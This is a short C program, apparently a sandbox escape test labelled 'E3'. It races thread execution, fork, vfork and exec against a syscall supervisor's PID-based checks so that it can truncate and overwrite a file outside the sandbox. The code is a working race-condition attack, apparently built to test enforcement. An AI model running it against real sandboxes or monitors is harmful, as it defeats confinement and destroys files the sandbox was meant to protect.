/* E3: while one thread's call is looked at, another executes a program: the number of the first
   is then that of nobody, or of somebody else. vfork(2) on top: the child asks while its parent
   stands still. What is asked for is a file outside, to be overwritten. */
#include <fcntl.h>
#include <pthread.h>
#include <sys/wait.h>
#include <unistd.h>

static char *victim;

static void *attack(void *unused) {
	for (;;) {
		int fd = open(victim, O_WRONLY | O_CREAT | O_TRUNC, 0600);
		if (fd >= 0) {
			if (write(fd, "attacked", 8) < 0) return unused;
			close(fd);
		}
	}
}

int main(int argc, char **argv) {
	victim = argv[1];
	for (int i = 0; i < 20; i++) {
		pid_t p = fork();
		if (p == 0) {
			pthread_t t;
			pthread_create(&t, 0, attack, 0);
			if (i % 2 && vfork() == 0) _exit(open(victim, O_WRONLY | O_TRUNC) < 0);
			usleep(i * 500);
			execl("/bin/true", "true", (char *)0);
			_exit(1);
		}
		waitpid(p, 0, 0);
	}
	return 0;
}
